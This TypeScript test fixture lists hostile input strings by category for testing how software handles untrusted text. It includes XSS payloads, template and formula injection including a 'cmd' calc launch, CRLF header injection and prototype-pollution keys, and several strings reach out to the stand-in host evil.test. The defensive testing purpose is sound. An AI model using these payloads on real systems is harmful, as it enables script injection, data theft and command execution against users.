/**
 * Texts that would do something if a page, a chat, a log or a spreadsheet took them for more than texts, by what they try (B15).
 * They call `xss`, ask for `/hit`, or lead to evil.test. All but the last three kinds are short, since names are.
 */
const hostileKinds = {
  scripts: [
    '<script>xss()</script>',
    '<ScRiPt src=//evil.test/x.js></sCrIpT>',
    '</script><script>xss()</script>',
    '<script/x>xss()</script/y>',
    '<scr<script>ipt>xss()</scr</script>ipt>',
  ],
  handlers: [
    '<img src=/hit onerror=xss()>',
    '"><svg onload=xss()>',
    '<details open ontoggle=xss()>x</details>',
    '<input autofocus onfocus=xss()>',
    '<video src=/hit onerror=xss()></video>',
    '<p onpointerover=xss() style=position:fixed;inset:0>x</p>',
    "' onmouseover='xss()' x='",
    '" autofocus onfocus="xss()" x="',
  ],
  addresses: [
    "javascript:xss()//'-xss()-'",
    'JaVaScRiPt:xss()//',
    'java\tscript:xss()//',
    '<a href="javascript:xss()">look</a>',
    '<a href=&#106;avascript:xss()>look</a>',
    'vbscript:xss()//',
    'data:text/html,<script>xss()</script>',
    '//evil.test/hit',
    'https://bit.example@evil.test/hit',
    '%6Aavascript:xss()//',
    'https://evil.test/\u202Egpj.exe',
  ],
  svg: [
    '<svg><script>xss()</script></svg>',
    '<svg><animate onbegin=xss() attributeName=x dur=1s></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=xss()>#x"/></svg>',
  ],
  mathml: [
    '<math><mtext><a href=javascript:xss()>x</a></mtext></math>',
    '<math><mi xlink:href="javascript:xss()">x</mi></math>',
  ],
  templates: [
    '{{constructor.constructor("xss()")()}}',
    '$' + '{xss()} #{xss()} [[xss()]]',
    '<%= xss() %><?php xss() ?>',
  ],
  markdown: ['[look](javascript:xss()) ![x](https://evil.test/hit)', '<https://evil.test/hit> **x** ~~y~~'],
  discord: ['```@everyone <@1> <@&1> <#1> [gold](https://evil.test) ||x||'],
  css: ['<style>*{background:url(//evil.test/hit)}</style>', 'x;background:url(//evil.test/hit);color:red'],
  documents: [
    '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
    '<object data=//evil.test/x></object><embed src=//evil.test/x>',
    '<base href=//evil.test/>',
    '<meta http-equiv=refresh content="0;url=//evil.test">',
    '<form action=//evil.test id=root><button>Go</button></form>',
    '<a id=location name=xss href=//evil.test></a><img name=body>',
  ],
  unclosed: ['<img src="//evil.test/hit?', '</title></textarea><!--'],
  mutation: [
    '<noscript><p title="</noscript><img src=/hit onerror=xss()>">',
    '<svg></p><style><a id="</style><img src=/hit onerror=xss()>">',
  ],
  entities: [
    '&lt;img src=/hit onerror=xss()&gt;',
    '\\u003cimg src=/hit onerror=xss()\\u003e',
    '＜script＞xss()＜/script＞',
    `<\u200Bscript>x\u2060ss()</script\u00AD>e${'\u0301'.repeat(20)}`,
  ],
  directions: ['\u202E<txet>\u202C \u2066x\u2069 \u200Fy'],
  keys: ['__proto__', 'constructor.prototype.xss'],
  formulas: ['=HYPERLINK("https://evil.test/hit")', '@SUM(1+1)*cmd|x', "+1+cmd|' /C calc'!A0"],
  lines: ['x\r\nSet-Cookie: a=1\r\n\r\n{"level":60}\n<script>xss()</script>'],
  controls: ['a\u0001\u0007\u001B[31mb\u007F\u0085c\u2028d'],
  long: ['<b>'.repeat(600)],
} satisfies Readonly<Record<string, readonly string[]>>

export const hostileTexts: readonly string[] = Object.values(hostileKinds).flat()

/** Texts of the commonest kinds, for short runs and for fields that are tried in several ways. */
export const fewHostileTexts: readonly string[] = [
  hostileKinds.handlers[0]!,
  hostileKinds.formulas[0]!,
  hostileKinds.addresses[0]!,
  hostileKinds.scripts[0]!,
  hostileKinds.handlers[1]!,
  hostileKinds.formulas[1]!,
]
